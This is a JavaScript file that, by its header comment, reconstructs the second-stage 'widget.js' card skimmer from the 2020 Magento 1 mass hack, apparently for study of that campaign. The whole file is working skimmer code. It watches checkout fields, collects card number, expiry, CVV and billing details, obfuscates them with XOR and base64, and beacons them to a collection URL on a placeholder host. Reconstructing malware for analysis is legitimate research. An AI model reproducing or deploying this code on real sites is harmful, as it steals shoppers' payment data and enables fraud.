// mcdnn-widget (variant b), written from Sansec's report on the 2020 Magento 1 mass hack, as
// the second stage ("widget.js") reconstructed from the behaviour described, not from a
// sample: on the checkout it reads Magento 1's payment[cc_*] and billing[*] fields whenever
// the shopper leaves a field, and when the card number, expiry and CVV are all present sends
// them XOR-encrypted and base64-encoded with navigator.sendBeacon to the same host.
(function () {
  var gate = "https://mcdnn.invalid/122002/assets/js/collect";
  var key = "m1eol";
  var sent = false;
  function enc(s) {
    var o = "";
    for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ key.charCodeAt(i % key.length));
    return btoa(o);
  }
  function val(n) { var e = document.getElementsByName(n)[0]; return e ? e.value : ""; }
  function check() {
    if (sent) return;
    var card = {
      number: val("payment[cc_number]"), m: val("payment[cc_exp_month]"), y: val("payment[cc_exp_year]"),
      cvv: val("payment[cc_cid]"), owner: val("payment[cc_owner]"),
      fn: val("billing[firstname]"), ln: val("billing[lastname]"), st: val("billing[street][]"),
      city: val("billing[city]"), zip: val("billing[postcode]"), tel: val("billing[telephone]"),
      mail: val("billing[email]"), site: location.hostname
    };
    if (card.number.length < 13 || !card.m || card.cvv.length < 3) return;
    var body = new Blob(["k=" + encodeURIComponent(enc(JSON.stringify(card)))], { type: "application/x-www-form-urlencoded" });
    sent = navigator.sendBeacon(gate, body);
  }
  document.addEventListener("focusout", function (e) {
    if (e.target && /^(payment|billing)\[/.test(e.target.name || "")) check();
  });
})();
